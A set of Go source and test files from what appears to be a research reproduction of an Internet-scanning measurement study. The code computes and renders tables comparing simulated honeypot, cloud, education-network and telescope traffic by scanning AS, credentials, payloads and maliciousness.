	}
	if !foundCreds {
		t.Error("no telnet credential wire data in export")
	}
}

func TestExportPCAPDeterministic(t *testing.T) {
	s := sharedStudy(t, 2021)
	var a, b bytes.Buffer
	if _, err := s.ExportPCAP(&a); err != nil {
		t.Fatal(err)
	}
	if _, err := s.ExportPCAP(&b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Error("export is not byte-identical across runs")
	}
}
