package core

import (
	"fmt"
	"strings"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/stats"
	"cloudwatch/internal/wire"
)

// Table7Cell is one (comparison-kind, slice, characteristic) cell of
// Table 7.
type Table7Cell struct {
	Kind           string // "cloud-cloud", "cloud-edu", "edu-edu"
	Slice          ProtocolSlice
	Characteristic Characteristic
	Pairs          int
	Different      int
	AvgPhi         float64
	NotComputable  bool // the paper's "×" cells (credential characteristics on Honeytrap)
}

// Table7Result reproduces Table 7 (and Table 14 on mixed-year
// configs): differences across network types.
type Table7Result struct {
	Year  int
	K     int // top-K width the families compared (0 = TopK)
	Cells []Table7Cell
}

var table7Axes = []struct {
	slice ProtocolSlice
	chars []Characteristic
}{
	{SliceSSH22, []Characteristic{CharTopAS, CharTopUsernames, CharTopPasswords, CharFracMalicious}},
	{SliceTelnet23, []Characteristic{CharTopAS, CharTopUsernames, CharTopPasswords, CharFracMalicious}},
	{SliceHTTP80, []Characteristic{CharTopAS, CharTopPayloads, CharFracMalicious}},
	{SliceHTTPAll, []Characteristic{CharTopAS, CharTopPayloads, CharFracMalicious}},
}

// credChars cannot be computed on plain Honeytrap networks (no
// credential capture, SSH maliciousness invisible): Table 7/9's "×".
func credBased(char Characteristic, slice ProtocolSlice) bool {
	if char == CharTopUsernames || char == CharTopPasswords {
		return true
	}
	return char == CharFracMalicious && (slice == SliceSSH22 || slice == SliceTelnet23)
}

// table7Kind is one comparison column of Table 7: a named set of
// region pairs, flagged when its comparisons run on Honeytrap data
// (credential axes not computable).
type table7Kind struct {
	name      string
	pairs     [][2]string
	honeytrap bool
}

// table7Kinds lists Table 7's comparison columns: same-city cloud
// pairs, cloud vs education (Honeytrap fleets), education vs
// education.
func table7Kinds() []table7Kind {
	return []table7Kind{
		{"cloud-cloud", cloud.CloudCloudPairs(), false},
		{"cloud-edu", [][2]string{
			{"stanford:us-west", "aws:ht-us-west"},
			{"stanford:us-west", "google:ht-us-west"},
			{"merit:us-east", "google:ht-us-east"},
			{"merit:us-east", "aws:ht-us-west"},
		}, true},
		{"edu-edu", [][2]string{{"stanford:us-west", "merit:us-east"}}, true},
	}
}

// Table7 compares traffic across network types, each computable
// (kind, slice, characteristic) cell as one batched family.
func (s *Study) Table7() Table7Result { return s.Table7AtK(TopK) }

// Table7AtK is Table 7 with a parameterized top-K width (the sweep
// engine's K axis); Table7AtK(TopK) shares Table7's memo entries.
func (s *Study) Table7AtK(k int) Table7Result {
	res := Table7Result{Year: s.Cfg.Year, K: k}
	kinds := table7Kinds()

	for _, axis := range table7Axes {
		axis := axis
		for _, kind := range kinds {
			kind := kind
			for _, char := range axis.chars {
				char := char
				cell := Table7Cell{Kind: kind.name, Slice: axis.slice, Characteristic: char}
				if kind.honeytrap && credBased(char, axis.slice) {
					cell.NotComputable = true
					res.Cells = append(res.Cells, cell)
					continue
				}
				fr := s.pairwiseFamily("table7:"+kind.name, axis.slice, char, k, func() famJob {
					return regionPairJob(s, kind.pairs, char, func(region string) *View {
						return s.anyRegionGroupView(region, axis.slice)
					})
				})
				cell.Pairs = fr.fam.Comparisons()
				cell.Different = len(fr.fam.Significant())
				cell.AvgPhi = fr.fam.AvgSignificantV()
				res.Cells = append(res.Cells, cell)
			}
		}
	}
	return res
}

// anyRegionGroupView merges every vantage point of a region (any
// collector) with the median filter. The merged view is memoized per
// (region, slice) — Table 7 and Table 10 share them — and per-vantage
// view builds fan out across cores on the first request. Callers must
// treat the result as read-only.
func (s *Study) anyRegionGroupView(region string, slice ProtocolSlice) *View {
	return s.views.get(kindRegionAny, region, slice, func() *View {
		return GroupView(s.vantageViews(s.U.Region(region), slice))
	})
}

// Render formats Table 7.
func (r Table7Result) Render() string {
	title := fmt.Sprintf("Table 7 (%d): differences across network types (× = not computable on Honeytrap data)", r.Year)
	t := newTable(title, "Traffic", "Protocol", "Cloud-Cloud", "CC phi", "Cloud-EDU", "CE phi", "EDU-EDU")
	type key struct {
		slice ProtocolSlice
		char  Characteristic
	}
	cells := map[key]map[string]Table7Cell{}
	var order []key
	for _, c := range r.Cells {
		k := key{c.Slice, c.Characteristic}
		if cells[k] == nil {
			cells[k] = map[string]Table7Cell{}
			order = append(order, k)
		}
		cells[k][c.Kind] = c
	}
	fmtCell := func(c Table7Cell) []string {
		if c.NotComputable {
			return []string{"×", "×"}
		}
		return []string{fmt.Sprintf("%d/%d", c.Different, c.Pairs), fmtPhi(c.AvgPhi, magnitudeLabel(c.AvgPhi))}
	}
	for _, k := range order {
		row := []string{labelAtK(k.char, r.K), k.slice.String()}
		row = append(row, fmtCell(cells[k]["cloud-cloud"])...)
		row = append(row, fmtCell(cells[k]["cloud-edu"])...)
		ee := cells[k]["edu-edu"]
		if ee.NotComputable {
			row = append(row, "×")
		} else {
			row = append(row, fmt.Sprintf("%d/%d", ee.Different, ee.Pairs))
		}
		t.add(row...)
	}
	return t.String()
}

// Table8Row is one port's scanner-overlap measurement (Table 8).
type Table8Row struct {
	Port          uint16
	TelCloudFrac  float64 // |Tel ∩ Cloud| / |Cloud|
	TelEDUFrac    float64 // |Tel ∩ EDU| / |EDU|
	CloudEDUFrac  float64 // |Cloud ∩ EDU| / |Cloud|
	CloudScanners int
	EDUScanners   int
}

// Table8Result reproduces Table 8: scanners that target real services
// avoid telescopes.
type Table8Result struct {
	Rows []Table8Row
}

// Table8Ports are the ports of Table 8, in the paper's order.
var Table8Ports = []uint16{23, 2323, 80, 8080, 21, 2222, 25, 7547, 22, 443}

// Table8 computes per-port source-IP overlaps between the telescope,
// cloud networks, and education networks.
func (s *Study) Table8() Table8Result {
	var res Table8Result
	for _, port := range Table8Ports {
		cloudSrcs := s.networkSources(port, netsim.KindCloud, false)
		eduSrcs := s.networkSources(port, netsim.KindEducation, false)
		telSrcs := s.Tel.UniqueSources(port)
		res.Rows = append(res.Rows, Table8Row{
			Port:          port,
			TelCloudFrac:  overlapFrac(telSrcs, cloudSrcs, cloudSrcs),
			TelEDUFrac:    overlapFrac(telSrcs, eduSrcs, eduSrcs),
			CloudEDUFrac:  overlapFrac(cloudSrcs, eduSrcs, cloudSrcs),
			CloudScanners: len(cloudSrcs),
			EDUScanners:   len(eduSrcs),
		})
	}
	return res
}

// networkSources collects the (optionally malicious-only) source IPs
// seen on one port across every vantage of a network kind, excluding
// the §4.3 experiment hosts.
func (s *Study) networkSources(port uint16, kind netsim.NetworkKind, maliciousOnly bool) map[wire.Addr]struct{} {
	out := map[wire.Addr]struct{}{}
	for vi, t := range s.U.Targets() {
		if t.Kind != kind || strings.HasPrefix(t.Region, "stanford:leak") {
			continue
		}
		for _, ri := range s.byVantage[vi] {
			if s.blk.Port[ri] != port {
				continue
			}
			if maliciousOnly && !s.mal[ri] {
				continue
			}
			out[s.blk.Src[ri]] = struct{}{}
		}
	}
	return out
}

// overlapFrac returns |a ∩ b| / |denom|.
func overlapFrac(a, b, denom map[wire.Addr]struct{}) float64 {
	if len(denom) == 0 {
		return 0
	}
	n := 0
	small, large := a, b
	if len(b) < len(a) {
		small, large = b, a
	}
	for ip := range small {
		if _, ok := large[ip]; ok {
			n++
		}
	}
	return float64(n) / float64(len(denom))
}

// Render formats Table 8.
func (r Table8Result) Render() string {
	t := newTable("Table 8: scanners avoid telescopes — source-IP overlap by port",
		"Port", "|Tel∩Cloud|/|Cloud|", "|Tel∩EDU|/|EDU|", "|Cloud∩EDU|/|Cloud|", "n(Cloud)", "n(EDU)")
	for _, row := range r.Rows {
		t.add(fmt.Sprint(row.Port), fmtPct(row.TelCloudFrac), fmtPct(row.TelEDUFrac),
			fmtPct(row.CloudEDUFrac), fmt.Sprint(row.CloudScanners), fmt.Sprint(row.EDUScanners))
	}
	return t.String()
}

// Table9Row is one port's attacker-overlap measurement (Table 9).
type Table9Row struct {
	Port          uint16
	TelCloudFrac  float64
	TelEDUFrac    float64
	EDUComputable bool // false renders the paper's "×"
	CloudAttacker int
}

// Table9Result reproduces Table 9: attackers (malicious sources)
// targeting SSH-assigned ports avoid telescopes.
type Table9Result struct {
	Rows []Table9Row
}

// Table9Ports are the ports of Table 9.
var Table9Ports = []uint16{23, 2323, 80, 8080, 2222, 22}

// Table9 computes per-port malicious-source overlaps with the
// telescope. Credential-based maliciousness is invisible on plain
// Honeytrap EDU networks, so those cells are marked not-computable.
func (s *Study) Table9() Table9Result {
	var res Table9Result
	for _, port := range Table9Ports {
		cloudMal := s.networkSources(port, netsim.KindCloud, true)
		telSrcs := s.Tel.UniqueSources(port)
		row := Table9Row{
			Port:          port,
			TelCloudFrac:  overlapFrac(telSrcs, cloudMal, cloudMal),
			CloudAttacker: len(cloudMal),
		}
		if port == 80 || port == 8080 {
			eduMal := s.networkSources(port, netsim.KindEducation, true)
			row.TelEDUFrac = overlapFrac(telSrcs, eduMal, eduMal)
			row.EDUComputable = true
		}
		res.Rows = append(res.Rows, row)
	}
	return res
}

// Render formats Table 9.
func (r Table9Result) Render() string {
	t := newTable("Table 9: attackers targeting SSH-assigned ports avoid telescopes (malicious source overlap)",
		"Port", "|Tel∩Mal.Cloud|/|Mal.Cloud|", "|Tel∩Mal.EDU|/|Mal.EDU|", "n(Mal.Cloud)")
	for _, row := range r.Rows {
		edu := "×"
		if row.EDUComputable {
			edu = fmtPct(row.TelEDUFrac)
		}
		t.add(fmt.Sprint(row.Port), fmtPct(row.TelCloudFrac), edu, fmt.Sprint(row.CloudAttacker))
	}
	return t.String()
}

// Table10Cell is one (network-kind, slice) comparison of telescope
// scanning ASes against service networks (Table 10).
type Table10Cell struct {
	Kind      string // "telescope-edu" or "telescope-cloud"
	Slice     ProtocolSlice
	Networks  int
	Different int
	AvgPhi    float64
}

// Table10Result reproduces Table 10 (and Table 15 on the 2022 config).
type Table10Result struct {
	Year  int
	K     int // top-K width the families compared (0 = TopK)
	Cells []Table10Cell
}

// table10Kind is one network-kind column of Table 10.
type table10Kind struct {
	name    string
	regions []string
}

// table10Kinds lists the service networks compared against the
// telescope: the education networks and the US Honeytrap cloud
// deployments (keeping geography fixed).
func table10Kinds() []table10Kind {
	return []table10Kind{
		{"telescope-edu", []string{"stanford:us-west", "merit:us-east"}},
		{"telescope-cloud", []string{"aws:ht-us-west", "google:ht-us-west", "google:ht-us-east"}},
	}
}

// table10Slices are Table 10's protocol slices with the matching
// telescope AS-table port (0 = all ports).
var table10Slices = []struct {
	slice ProtocolSlice
	port  uint16
}{
	{SliceSSH22, 22},
	{SliceTelnet23, 23},
	{SliceHTTP80, 80},
	{SliceAnyAll, 0},
}

// table10Job builds one Table 10 family: the telescope's AS table is
// side 0 and each service network compares against it, so the
// family's pairs share one interned dictionary and one ranked
// telescope top-K.
func (s *Study) table10Job(kind table10Kind, slice ProtocolSlice, port uint16) famJob {
	telAS := s.Tel.ASFrequencies(port)
	if port == 0 {
		telAS = s.Tel.ASFrequenciesAll()
	}
	job := famJob{sides: []famSide{{sum: stats.Summarize(telAS)}}}
	for i, region := range kind.regions {
		view := s.anyRegionGroupView(region, slice)
		job.sides = append(job.sides, s.viewSide(view, CharTopAS))
		job.pairs = append(job.pairs, [2]int{0, i + 1})
		job.labels = append(job.labels, "tel vs "+region)
	}
	return job
}

// Table10 compares the top scanning ASes of the telescope against
// each education and cloud service network, one batched family per
// (kind, slice).
func (s *Study) Table10() Table10Result { return s.Table10AtK(TopK) }

// Table10AtK is Table 10 with a parameterized top-K width (the sweep
// engine's K axis); Table10AtK(TopK) shares Table10's memo entries.
func (s *Study) Table10AtK(k int) Table10Result {
	res := Table10Result{Year: s.Cfg.Year, K: k}
	for _, sl := range table10Slices {
		sl := sl
		for _, kind := range table10Kinds() {
			kind := kind
			fr := s.pairwiseFamily("table10:"+kind.name, sl.slice, CharTopAS, k, func() famJob {
				return s.table10Job(kind, sl.slice, sl.port)
			})
			res.Cells = append(res.Cells, Table10Cell{
				Kind:      kind.name,
				Slice:     sl.slice,
				Networks:  fr.fam.Comparisons(),
				Different: len(fr.fam.Significant()),
				AvgPhi:    fr.fam.AvgSignificantV(),
			})
		}
	}
	return res
}

// Render formats Table 10.
func (r Table10Result) Render() string {
	k := r.K
	if k == 0 {
		k = TopK
	}
	title := fmt.Sprintf("Table 10 (%d): different scanners target telescopes (top-%d AS comparisons)", r.Year, k)
	t := newTable(title, "Protocol", "Tel-EDU dif", "Tel-EDU phi", "Tel-Cloud dif", "Tel-Cloud phi")
	type row struct{ edu, cloud Table10Cell }
	rows := map[ProtocolSlice]*row{}
	var order []ProtocolSlice
	for _, c := range r.Cells {
		rw, ok := rows[c.Slice]
		if !ok {
			rw = &row{}
			rows[c.Slice] = rw
			order = append(order, c.Slice)
		}
		if c.Kind == "telescope-edu" {
			rw.edu = c
		} else {
			rw.cloud = c
		}
	}
	for _, sl := range order {
		rw := rows[sl]
		t.add(sl.String(),
			fmt.Sprintf("%d/%d", rw.edu.Different, rw.edu.Networks),
			fmtPhi(rw.edu.AvgPhi, magnitudeLabel(rw.edu.AvgPhi)),
			fmt.Sprintf("%d/%d", rw.cloud.Different, rw.cloud.Networks),
			fmtPhi(rw.cloud.AvgPhi, magnitudeLabel(rw.cloud.AvgPhi)))
	}
	return t.String()
}
