package core

import (
	"strings"
	"testing"
)

func TestAblationTopK(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.AblationTopK(1, 3, 5)
	if len(r.K) != 3 {
		t.Fatalf("K rows = %d", len(r.K))
	}
	// Footnote 2's claim: widening K grows the contingency table and
	// the number of near-zero cells.
	if r.AvgCells[2] <= r.AvgCells[1] {
		t.Errorf("top-5 table width (%v) should exceed top-3 (%v)", r.AvgCells[2], r.AvgCells[1])
	}
	if r.ZeroCells[2] <= r.ZeroCells[1] {
		t.Errorf("top-5 near-zero cells (%v) should exceed top-3 (%v)", r.ZeroCells[2], r.ZeroCells[1])
	}
	if !strings.Contains(r.Render(), "top-K") {
		t.Error("render missing title")
	}
	// Default K set.
	if def := s.AblationTopK(); len(def.K) != 4 {
		t.Errorf("default K rows = %d, want 4", len(def.K))
	}
}

func TestAblationMedianFilter(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.AblationMedianFilter()
	if r.Pairs == 0 {
		t.Fatal("no cloud-cloud pairs")
	}
	// §4.4's claim: the median filter finds at most as many (and
	// typically fewer) spurious group differences as naive summing.
	if r.MedianDiff > r.SumDiff {
		t.Errorf("median filter found %d differences vs %d for naive sum — filter should not add differences",
			r.MedianDiff, r.SumDiff)
	}
	if !strings.Contains(r.Render(), "median filter") {
		t.Error("render missing label")
	}
}

func BenchmarkAblationTopK(b *testing.B) {
	s, err := Run(testConfigBench(42))
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.AblationTopK()
	}
}

func BenchmarkAblationMedianFilter(b *testing.B) {
	s, err := Run(testConfigBench(42))
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.AblationMedianFilter()
	}
}

func testConfigBench(seed int64) Config {
	cfg := DefaultConfig(seed, 2021)
	cfg.Deploy.TelescopeSlash24s = 32
	cfg.Deploy.HoneytrapPerCloud = 16
	cfg.Deploy.HurricaneIPs = 16
	cfg.Actors.Scale = 0.4
	return cfg
}
