package core

import (
	"fmt"
	"testing"
)

// TestRestoreEpochSetByteIdentical is the persistence half of the
// streaming equivalence matrix: exporting a generated epoch set's
// material and restoring it into a fresh set must reproduce every
// prefix snapshot — tables, figures, and ablations — byte for byte,
// across seeds, years, and generation worker counts. The restored set
// is exercised through both Snapshot and the Incremental chain (the
// path the streaming engine takes on rehydration).
func TestRestoreEpochSetByteIdentical(t *testing.T) {
	type matrix struct {
		seed    int64
		year    int
		workers int
	}
	cells := []matrix{
		{42, 2021, 1},
		{42, 2021, 4},
		{7, 2020, 1},
		{7, 2020, 4},
	}
	if testing.Short() {
		cells = cells[:2]
	}
	const epochs = 3

	for _, cell := range cells {
		t.Run(fmt.Sprintf("seed%d-year%d-workers%d", cell.seed, cell.year, cell.workers), func(t *testing.T) {
			cfg := testConfig(cell.seed, cell.year)
			cfg.Workers = cell.workers
			es, err := GenerateEpochs(cfg, epochs)
			if err != nil {
				t.Fatal(err)
			}

			restored, err := RestoreEpochSet(cfg, es.Material())
			if err != nil {
				t.Fatal(err)
			}

			inc := restored.Incremental()
			for p := 1; p <= epochs; p++ {
				want, err := es.Snapshot(p)
				if err != nil {
					t.Fatal(err)
				}
				ref := renderAllAnalyses(want)

				snap, err := restored.Snapshot(p)
				if err != nil {
					t.Fatal(err)
				}
				if renderAllAnalyses(snap) != ref {
					t.Errorf("prefix %d: restored snapshot differs from original", p)
				}
				chained, err := inc.Advance()
				if err != nil {
					t.Fatal(err)
				}
				if renderAllAnalyses(chained) != ref {
					t.Errorf("prefix %d: restored incremental chain differs from original", p)
				}
			}
		})
	}
}

// TestRestoreEpochSetValidation feeds RestoreEpochSet structurally
// damaged material and expects a clean error for each mutation, never
// a panic or a silently wrong set.
func TestRestoreEpochSetValidation(t *testing.T) {
	cfg := testConfig(42, 2021)
	es, err := GenerateEpochs(cfg, 2)
	if err != nil {
		t.Fatal(err)
	}
	pristine := es.Material()

	// Material shares the set's columns, so every mutation works on a
	// fresh shallow re-export.
	damage := map[string]func(m *StudyMaterial){
		"zero workers":        func(m *StudyMaterial) { m.Workers = 0 },
		"actor map short":     func(m *StudyMaterial) { m.ActorWorker = m.ActorWorker[:1] },
		"worker out of range": func(m *StudyMaterial) { m.ActorWorker[0] = int32(m.Workers) },
		"negative worker":     func(m *StudyMaterial) { m.ActorWorker[0] = -1 },
		"missing sink": func(m *StudyMaterial) {
			m.Epochs[0].Sinks = m.Epochs[0].Sinks[:0]
		},
		"nil collector": func(m *StudyMaterial) {
			sinks := append([]SinkMaterial(nil), m.Epochs[1].Sinks...)
			sinks[0].Tel = nil
			m.Epochs[1].Sinks = sinks
		},
		"seq length skew": func(m *StudyMaterial) {
			sinks := append([]SinkMaterial(nil), m.Epochs[0].Sinks...)
			sinks[0].Seq = append(append([]int32(nil), sinks[0].Seq...), 0)
			m.Epochs[0].Sinks = sinks
		},
		"run bounds short": func(m *StudyMaterial) {
			m.Epochs[0].Lo = m.Epochs[0].Lo[:0]
		},
		"run out of sink": func(m *StudyMaterial) {
			hi := append([]int32(nil), m.Epochs[0].Hi...)
			hi[0] = int32(m.Epochs[0].Sinks[m.ActorWorker[0]].Blk.Len()) + 1
			m.Epochs[0].Hi = hi
		},
		"inverted run": func(m *StudyMaterial) {
			lo := append([]int32(nil), m.Epochs[0].Lo...)
			lo[0] = m.Epochs[0].Hi[0] + 1
			m.Epochs[0].Lo = lo
		},
	}
	for name, mutate := range damage {
		t.Run(name, func(t *testing.T) {
			m := es.Material()
			mutate(m)
			if _, err := RestoreEpochSet(cfg, m); err == nil {
				t.Fatal("damaged material restored successfully")
			}
		})
	}

	// The pristine export still restores after all that: the mutations
	// above must not have reached shared state.
	if _, err := RestoreEpochSet(cfg, pristine); err != nil {
		t.Fatalf("pristine material no longer restores: %v", err)
	}

	// Empty material clashes with the minimum one-epoch partition. (A
	// nonzero truncation restores as a legitimately shorter set; the
	// store layer checks frame counts against its manifest.)
	m := es.Material()
	m.Epochs = m.Epochs[:0]
	if _, err := RestoreEpochSet(cfg, m); err == nil {
		t.Fatal("empty material restored successfully")
	}
}
