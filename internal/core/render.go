package core

import (
	"fmt"
	"strings"
)

// table is a minimal fixed-width text-table builder for experiment
// output.
type table struct {
	title  string
	header []string
	rows   [][]string
}

func newTable(title string, header ...string) *table {
	return &table{title: title, header: header}
}

func (t *table) add(cells ...string) {
	row := make([]string, len(t.header))
	for i := range row {
		if i < len(cells) {
			row[i] = cells[i]
		}
	}
	t.rows = append(t.rows, row)
}

func (t *table) String() string {
	widths := make([]int, len(t.header))
	for i, h := range t.header {
		widths[i] = len(h)
	}
	for _, row := range t.rows {
		for i, c := range row {
			if len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var b strings.Builder
	if t.title != "" {
		b.WriteString(t.title)
		b.WriteByte('\n')
	}
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], c)
		}
		b.WriteByte('\n')
	}
	writeRow(t.header)
	total := len(t.header)*2 - 2
	for _, w := range widths {
		total += w
	}
	b.WriteString(strings.Repeat("-", total))
	b.WriteByte('\n')
	for _, row := range t.rows {
		writeRow(row)
	}
	return b.String()
}

// fmtPhi renders an effect size with its magnitude, or "-" when the
// comparison found nothing significant.
func fmtPhi(v float64, magnitude string) string {
	if v == 0 {
		return "-"
	}
	return fmt.Sprintf("%.2f (%s)", v, magnitude)
}

// fmtPct renders a fraction as a percentage.
func fmtPct(f float64) string {
	return fmt.Sprintf("%.0f%%", f*100)
}

// fmtFold renders a fold increase, with the significance markers of
// Table 3: bold (here "**") for a significant Mann-Whitney increase,
// "*" for a significantly different distribution (KS).
func fmtFold(fold float64, mwuSig, ksSig bool) string {
	s := fmt.Sprintf("%.1f", fold)
	if mwuSig {
		s += "**"
	}
	if ksSig {
		s += "*"
	}
	return s
}
