package core

import "sync"

// viewKind distinguishes the cached view families: per-vantage views,
// GreyNoise-only region group views (§4.4 median filter over the
// region's GreyNoise honeypots), and any-collector region group views.
type viewKind uint8

const (
	kindVantage viewKind = iota
	kindRegionGreyNoise
	kindRegionAny
)

// viewCacheKey identifies one memoized view.
type viewCacheKey struct {
	kind  viewKind
	name  string // vantage ID or region key
	slice ProtocolSlice
}

// viewEntry is one cache slot. The per-entry once lets concurrent
// experiments build distinct views in parallel while each view is
// computed exactly once.
type viewEntry struct {
	once sync.Once
	view *View
}

// viewCache memoizes (vantage, slice) and (region, slice) views so
// experiments sharing an axis — Table 2/4/5/6/7, the ablations, the
// leak and neighborhood drivers — stop rebuilding identical views.
// Cached views are shared: callers must treat them as read-only.
type viewCache struct {
	mu sync.Mutex
	m  map[viewCacheKey]*viewEntry
}

// get returns the memoized view for key, building it at most once via
// build. Concurrent gets of the same key block until the first build
// finishes; gets of distinct keys proceed in parallel.
func (c *viewCache) get(kind viewKind, name string, slice ProtocolSlice, build func() *View) *View {
	key := viewCacheKey{kind, name, slice}
	c.mu.Lock()
	if c.m == nil {
		c.m = map[viewCacheKey]*viewEntry{}
	}
	e, ok := c.m[key]
	if !ok {
		e = &viewEntry{}
		c.m[key] = e
	}
	c.mu.Unlock()
	e.once.Do(func() { e.view = build() })
	return e.view
}

// seriesEntry memoizes one telescope per-address series (Figure 1).
type seriesEntry struct {
	once   sync.Once
	series []int
}

// telescopeSeries returns the cached per-address unique-scanner series
// of a watched port. The series is immutable once built; callers must
// not modify it.
func (s *Study) telescopeSeries(port uint16) []int {
	s.seriesMu.Lock()
	if s.seriesCache == nil {
		s.seriesCache = map[uint16]*seriesEntry{}
	}
	e, ok := s.seriesCache[port]
	if !ok {
		e = &seriesEntry{}
		s.seriesCache[port] = e
	}
	s.seriesMu.Unlock()
	e.once.Do(func() { e.series = s.Tel.PerAddressSeries(s.U, port) })
	return e.series
}
