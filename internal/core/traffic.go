package core

import (
	"fmt"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/stats"
	"cloudwatch/internal/wire"
)

// ProtocolSlice selects the records of one comparison axis (§3.3: the
// paper focuses on Telnet, SSH, HTTP/80, and HTTP across all ports).
type ProtocolSlice int

// Comparison slices.
const (
	SliceSSH22 ProtocolSlice = iota
	SliceSSH2222
	SliceTelnet23
	SliceTelnet2323
	SliceHTTP80
	SliceHTTPAll // HTTP payloads independent of port ("HTTP/All Ports")
	SliceAnyAll  // everything ("Any/All")
)

// String names the slice as the paper's tables do.
func (p ProtocolSlice) String() string {
	switch p {
	case SliceSSH22:
		return "SSH/22"
	case SliceSSH2222:
		return "SSH/2222"
	case SliceTelnet23:
		return "TEL/23"
	case SliceTelnet2323:
		return "TEL/2323"
	case SliceHTTP80:
		return "HTTP/80"
	case SliceHTTPAll:
		return "HTTP/All"
	case SliceAnyAll:
		return "Any/All"
	default:
		return fmt.Sprintf("Slice(%d)", int(p))
	}
}

// matches reports whether a record belongs to the slice.
func (p ProtocolSlice) matches(rec netsim.Record) bool {
	switch p {
	case SliceSSH22:
		return rec.Port == 22
	case SliceSSH2222:
		return rec.Port == 2222
	case SliceTelnet23:
		return rec.Port == 23
	case SliceTelnet2323:
		return rec.Port == 2323
	case SliceHTTP80:
		return rec.Port == 80
	case SliceHTTPAll:
		if len(rec.Payload) > 0 {
			return fingerprint.Identify(rec.Payload) == fingerprint.HTTP
		}
		// Credential-only records are never HTTP.
		return false
	case SliceAnyAll:
		return true
	default:
		return false
	}
}

// View aggregates the traffic characteristics of one vantage point (or
// a merged group) for one protocol slice: exactly the axes of §3.3 —
// who (ASes), what (usernames, passwords, payloads), why (fraction
// malicious) — plus the per-hour volume series used by the leak
// experiment.
type View struct {
	Slice     ProtocolSlice
	AS        stats.Freq // traffic per scanning AS
	Usernames stats.Freq
	Passwords stats.Freq
	Payloads  stats.Freq // normalized payload keys
	Malicious float64    // malicious record count
	Benign    float64    // non-malicious record count
	Total     float64    // all records in slice
	Srcs      map[wire.Addr]struct{}
	MalSrcs   map[wire.Addr]struct{}
	Hourly    []float64 // length netsim.StudyHours
	MalHourly []float64
}

// NewView returns an empty view for a slice.
func NewView(slice ProtocolSlice) *View {
	return &View{
		Slice:     slice,
		AS:        stats.Freq{},
		Usernames: stats.Freq{},
		Passwords: stats.Freq{},
		Payloads:  stats.Freq{},
		Srcs:      map[wire.Addr]struct{}{},
		MalSrcs:   map[wire.Addr]struct{}{},
		Hourly:    make([]float64, netsim.StudyHours),
		MalHourly: make([]float64, netsim.StudyHours),
	}
}

// Add folds one record into the view (no-op when the record is outside
// the slice). malicious is the §3.2 verdict of the record.
func (v *View) Add(rec netsim.Record, malicious bool) {
	if !v.Slice.matches(rec) {
		return
	}
	v.Total++
	if as, ok := netsim.LookupAS(rec.ASN); ok {
		v.AS.Add(as.Key(), 1)
	} else {
		v.AS.Add(fmt.Sprintf("AS%d", rec.ASN), 1)
	}
	for _, c := range rec.Creds {
		v.Usernames.Add(c.Username, 1)
		v.Passwords.Add(c.Password, 1)
	}
	if len(rec.Payload) > 0 {
		v.Payloads.Add(payloadKey(rec.Payload), 1)
	}
	hour := netsim.HourOf(rec.T)
	v.Hourly[hour]++
	v.Srcs[rec.Src] = struct{}{}
	if malicious {
		v.Malicious++
		v.MalHourly[hour]++
		v.MalSrcs[rec.Src] = struct{}{}
	} else {
		v.Benign++
	}
}

// FractionMalicious returns the §3.2 malicious share of the slice.
func (v *View) FractionMalicious() float64 {
	if v.Total == 0 {
		return 0
	}
	return v.Malicious / v.Total
}

// payloadKey normalizes a payload for comparison, dropping the
// ephemeral header values the paper strips (Date, Host,
// Content-Length) and truncating for table readability.
func payloadKey(p []byte) string {
	const maxKey = 48
	norm := normalizePayload(p)
	if len(norm) > maxKey {
		norm = norm[:maxKey]
	}
	return fmt.Sprintf("%q", norm)
}

// normalizePayload removes Date/Host/Content-Length header lines from
// HTTP-looking payloads (§3.3: "directly compare the full payload
// after removing ephemeral values").
func normalizePayload(p []byte) []byte {
	if fingerprint.Identify(p) != fingerprint.HTTP {
		return p
	}
	// The output can only shrink: preallocate to the payload size so
	// the loop never regrows the buffer.
	out := make([]byte, 0, len(p))
	start := 0
	for start < len(p) {
		end := start
		for end < len(p) && p[end] != '\n' {
			end++
		}
		line := p[start:end]
		if !ephemeralHeader(line) {
			out = append(out, line...)
			if end < len(p) {
				out = append(out, '\n')
			}
		}
		start = end + 1
	}
	return out
}

// ephemeralHeader reports whether a header line carries one of the
// ephemeral values the paper strips. Single pass: dispatch on the
// first byte, then one prefix comparison — no per-call slice literal.
func ephemeralHeader(line []byte) bool {
	if len(line) == 0 {
		return false
	}
	var prefix string
	switch line[0] {
	case 'D':
		prefix = "Date:"
	case 'H':
		prefix = "Host:"
	case 'C':
		prefix = "Content-Length:"
	default:
		return false
	}
	return len(line) >= len(prefix) && string(line[:len(prefix)]) == prefix
}

// VantageView returns the view of a single vantage point, built from
// the derived-record index and memoized per (vantage, slice): repeat
// requests — every experiment that shares an axis — return the same
// *View. Callers must treat the result as read-only.
func (s *Study) VantageView(id string, slice ProtocolSlice) *View {
	return s.views.get(kindVantage, id, slice, func() *View {
		return s.buildVantageView(id, slice)
	})
}

// buildVantageView computes a vantage view from the record columns,
// bypassing the cache.
func (s *Study) buildVantageView(id string, slice ProtocolSlice) *View {
	v := NewView(slice)
	for _, ri := range s.vantageIdxs(id) {
		s.addToView(v, int(ri))
	}
	return v
}

// vantageViews builds one view per target, fanning the builds out
// across cores. The result preserves target order, so downstream
// group merges are deterministic.
func (s *Study) vantageViews(targets []*netsim.Target, slice ProtocolSlice) []*View {
	views := make([]*View, len(targets))
	parallelEach(len(targets), func(i int) {
		views[i] = s.VantageView(targets[i].ID, slice)
	})
	return views
}

// GroupView merges the views of several vantage points using the §4.4
// median filter: for every characteristic value, the group count is
// the median of the per-honeypot counts (zeros included), damping
// single-IP attacker latches when comparing groups.
func GroupView(views []*View) *View {
	if len(views) == 0 {
		return NewView(SliceAnyAll)
	}
	out := NewView(views[0].Slice)
